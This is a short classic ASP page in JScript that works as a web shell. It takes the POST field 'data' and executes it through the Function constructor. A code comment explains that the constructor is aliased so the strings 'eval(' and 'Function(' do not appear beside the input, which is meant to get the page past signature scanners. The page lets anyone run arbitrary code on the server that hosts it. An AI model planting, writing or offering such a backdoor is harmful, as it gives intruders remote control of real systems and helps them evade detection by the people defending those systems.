<%@ Language="JScript" %>
<%
// The Function constructor kept under a plain name: no "eval(" or "Function(" next to the input.
var Make = Function;
var body = Request.Form("data");
if (body != null && String(body).length > 0) {
    Make(String(body))();
}
%>
